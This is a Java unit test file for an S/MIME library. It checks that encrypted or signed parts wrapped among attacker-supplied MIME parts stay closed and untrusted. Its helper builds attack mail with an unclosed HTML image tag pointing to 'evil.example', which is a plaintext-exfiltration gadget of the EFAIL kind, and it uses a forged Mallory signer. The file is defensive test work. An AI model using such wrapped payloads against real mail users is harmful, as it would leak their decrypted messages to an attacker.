package org.smime4j.internal.open;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.smime4j.testing.People.octets;
import static org.smime4j.testing.People.text;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.smime4j.MailReader;
import org.smime4j.Outgoing;
import org.smime4j.findings.SmimeException;
import org.smime4j.reports.Layer;
import org.smime4j.reports.MailPart;
import org.smime4j.reports.OpenedMail;
import org.smime4j.reports.SealedMail;
import org.smime4j.sources.ByteSource;
import org.smime4j.testing.People;

/** What stands among foreign parts is never the message, and never in one tree with them. */
public class CoverageTest {

  private static final String FIELDS = "From: alice@example.org\r\nMIME-Version: 1.0\r\n";
  private static final String SECRET = "the secret sentence";

  /** Ways in which an attacker, or a mailing list, puts a layer among parts of their own. */
  private enum Wrapping {
    BEFORE("multipart/mixed", true, false),
    AFTER("multipart/mixed", false, true),
    AROUND("multipart/mixed", true, true),
    ALTERNATIVE("multipart/alternative", true, false),
    RELATED("multipart/related", true, false),
    ALONE_IN_MULTIPART("multipart/mixed", false, false),
    ATTACHED("multipart/mixed", true, false),
    FORWARDED("multipart/mixed", true, false);

    private final String type;
    private final boolean before;
    private final boolean after;

    Wrapping(String type, boolean before, boolean after) {
      this.type = type;
      this.before = before;
      this.after = after;
    }

    /** The layer, whose content fields begin its text, within this wrapping. */
    String around(String entity) {
      String inner =
          this == FORWARDED
              ? "Content-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\n" + entity
              : entity;
      String html =
          "--evil\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
              + (this == RELATED ? "cid:x" : "")
              + "\r\n";
      return FIELDS
          + "Content-Type: "
          + type
          + "; boundary=evil\r\n\r\n"
          + (before ? html : "")
          + "--evil\r\n"
          + inner
          + "\r\n"
          + (after ? html : "")
          + "--evil--\r\n";
    }
  }

  @ParameterizedTest
  @EnumSource(Wrapping.class)
  void a1_b10_aWrappedCiphertext_isAnErrantLayer_andStaysClosed(Wrapping wrapping)
      throws IOException {
    String mail =
        wrapping.around(entity(Outgoing.of(octets(secret())).encryptedBy(People.ENCRYPTOR).seal()));
    OpenedMail opened =
        MailReader.with(People.DECRYPTOR, People.VERIFIER).open(ByteSource.of(octets(mail)));
    assertThat(opened.failure()).isEmpty();
    assertThat(Layers.whole(opened.layers())).isEmpty();
    assertThat(opened.layers()).hasSize(1);
    Layer layer = opened.layers().get(0);
    assertThat(layer.isWhole()).isFalse();
    assertThat(layer.encryption()).isEmpty();
    assertThat(layer.container()).isEqualTo("AuthEnvelopedData");
    assertThat(layer.cipher()).hasValue("aes256-gcm");
    for (MailPart part : all(opened.root().orElseThrow())) {
      assertThat(part.inside()).isEmpty();
      assertThat(text(part.content().bytes())).doesNotContain(SECRET);
    }
  }

  @ParameterizedTest
  @EnumSource(Wrapping.class)
  void a1_openedOnRequest_plaintextHasATreeOfItsOwn_thatNoForeignPartIsIn(Wrapping wrapping)
      throws IOException {
    String mail =
        wrapping.around(entity(Outgoing.of(octets(secret())).encryptedBy(People.ENCRYPTOR).seal()));
    OpenedMail opened =
        MailReader.with(People.DECRYPTOR, People.VERIFIER)
            .decryptingErrant()
            .open(ByteSource.of(octets(mail)));
    assertThat(Layers.whole(opened.layers())).isEmpty();
    assertThat(opened.layers())
        .singleElement()
        .extracting(Layer::kind)
        .isEqualTo(Layer.Kind.ENCRYPTED);
    int inside = 0;
    for (MailPart part : all(opened.root().orElseThrow())) {
      assertThat(text(part.content().bytes())).doesNotContain(SECRET);
      assertThat(part.coveredBy()).isEmpty();
      if (part.inside().isPresent()) {
        MailPart plaintext = part.inside().get();
        inside++;
        assertThat(text(plaintext.content().bytes())).contains(SECRET).doesNotContain("evil");
        assertThat(plaintext.coveredBy()).isEqualTo(opened.layers());
      }
    }
    assertThat(inside).isEqualTo(1);
    assertThat(text(opened.content().bytes())).doesNotContain(SECRET);
  }

  @ParameterizedTest
  @EnumSource(Wrapping.class)
  void b1_aSignatureAmongOtherParts_isNeverTheMessages(Wrapping wrapping) throws IOException {
    for (SealedMail signed :
        List.of(
            Outgoing.of(octets(secret())).signedBy(People.SIGNER).seal(),
            Outgoing.of(octets(secret())).signedOpaquelyBy(People.SIGNER).seal())) {
      OpenedMail opened =
          MailReader.with(People.DECRYPTOR, People.VERIFIER)
              .open(ByteSource.of(octets(wrapping.around(entity(signed)))));
      assertThat(opened.failure()).isEmpty();
      assertThat(Layers.whole(opened.layers())).isEmpty();
      Layer layer = opened.layers().get(0);
      assertThat(layer.isWhole()).isFalse();
      layer.report().orElseThrow().requireTrusted();
      assertThatThrownBy(opened::requireSigned)
          .isInstanceOfSatisfying(
              SmimeException.NotTrusted.class,
              e -> assertThat(e.code().name()).isEqualTo("NOT_SIGNED"));
      for (MailPart part : all(opened.root().orElseThrow())) {
        assertThat(part.coveredBy()).isEmpty();
      }
    }
  }

  @Test
  void b1_whatIsTrusted_isExactlyWhatWasSigned() throws IOException {
    SealedMail signed = Outgoing.of(octets(secret())).signedBy(People.SIGNER).seal();
    OpenedMail opened = MailReader.with(People.DECRYPTOR, People.VERIFIER).open(signed);
    byte[] trusted = opened.requireSigned().requireTrusted().bytes();
    assertThat(text(signed.bytes())).contains("\r\n" + text(trusted) + "\r\n--");
    assertThat(text(trusted))
        .isEqualTo(
            "From: alice@example.org\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\n"
                + SECRET
                + "\r\n");
    assertThat(opened.content().bytes()).isEqualTo(trusted);
  }

  @Test
  void b10_insideATrustedSignature_anErrantCiphertextStaysClosedToo() throws IOException {
    String mixed =
        Wrapping.AROUND.around(
            entity(Outgoing.of(octets(secret())).encryptedBy(People.ENCRYPTOR).seal()));
    SealedMail signed = Outgoing.of(octets(mixed)).signedBy(People.SIGNER).seal();
    OpenedMail opened = MailReader.with(People.DECRYPTOR, People.VERIFIER).open(signed);
    opened.requireSigned().requireTrusted();
    assertThat(opened.layers()).hasSize(2);
    assertThat(opened.layers().get(1).encryption()).isEmpty();
  }

  @Test
  void a22_aSignatureAroundTheEncryptionAlone_isNoted() throws IOException {
    byte[] message = octets(secret());
    SealedMail sealed = Outgoing.of(message).encryptedBy(People.ENCRYPTOR).seal();
    SealedMail signed = Outgoing.of(message).signedBy(People.SIGNER).seal();
    assertThat(notes(Outgoing.of(sealed).signedBy(People.SIGNER).seal()))
        .contains("SIGNED_CIPHERTEXT");
    for (SealedMail other :
        List.of(
            signed,
            Outgoing.of(signed).encryptedBy(People.ENCRYPTOR).seal(),
            Outgoing.of(Outgoing.of(signed).encryptedBy(People.ENCRYPTOR).seal())
                .signedBy(People.SIGNER)
                .seal())) {
      assertThat(notes(other)).doesNotContain("SIGNED_CIPHERTEXT");
    }
  }

  private static List<String> notes(SealedMail mail) throws IOException {
    return MailReader.with(People.DECRYPTOR, People.VERIFIER).open(mail).notes().stream()
        .map(note -> note.code().name())
        .toList();
  }

  /** RFC 2634 section 1.1: the outer one is of a person who passed the message on. */
  @Test
  void b3_ofTwoSignaturesOneAroundTheOther_theInnermostSaysWhoseTheMessageIs() throws IOException {
    byte[] message = octets(secret());
    for (boolean byAlice : new boolean[] {true, false}) {
      SealedMail inner =
          Outgoing.of(message).signedBy(byAlice ? People.SIGNER : People.MALLORY_SIGNER).seal();
      SealedMail outer =
          Outgoing.of(inner).signedBy(byAlice ? People.MALLORY_SIGNER : People.SIGNER).seal();
      OpenedMail opened = MailReader.with(People.DECRYPTOR, People.VERIFIER).open(outer);
      assertThat(Layers.whole(opened.layers())).hasSize(2);
      if (byAlice) {
        assertThat(text(opened.requireSigned().requireTrusted().bytes()))
            .isEqualTo(text(opened.content().bytes()))
            .contains(SECRET)
            .doesNotContain("pkcs7-signature");
      } else {
        assertThatThrownBy(() -> opened.requireSigned().requireTrusted())
            .isInstanceOf(SmimeException.NotTrusted.class)
            .hasMessageContaining("ADDRESS_MISMATCH");
      }
    }
  }

  @Test
  void aSignatureInAForwardedMessage_isBoundToThatMessagesAuthor() throws IOException {
    String forwarded =
        "From: bob@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
            + "Content-Type: message/rfc822\r\n\r\n"
            + text(Outgoing.of(octets(secret())).signedBy(People.SIGNER).seal().bytes())
            + "\r\n--b--\r\n";
    OpenedMail opened =
        MailReader.with(People.DECRYPTOR, People.VERIFIER).open(ByteSource.of(octets(forwarded)));
    opened.layers().get(0).report().orElseThrow().requireTrusted();
    assertThat(Layers.whole(opened.layers())).isEmpty();
  }

  private static String secret() {
    return FIELDS + "\r\n" + SECRET + "\r\n";
  }

  /** A sealed message without the fields that stay outside. */
  private static String entity(SealedMail sealed) {
    String mail = text(sealed.bytes());
    return mail.substring(mail.indexOf("Content-Type:"));
  }

  private static List<MailPart> all(MailPart root) {
    List<MailPart> all = new ArrayList<>(List.of(root));
    root.children().forEach(child -> all.addAll(all(child)));
    return all;
  }
}
